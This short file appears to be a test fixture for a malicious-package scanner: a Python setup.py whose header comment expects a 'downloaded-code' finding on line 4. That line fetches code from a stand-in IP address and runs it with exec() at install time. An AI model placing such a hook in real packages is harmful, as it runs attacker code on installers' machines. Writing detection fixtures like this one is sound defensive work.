# expect: 4 downloaded-code
from setuptools import setup
from urllib.request import urlopen
exec(urlopen('http://198.51.100.7/stage').read())
setup(name='x', version='1')
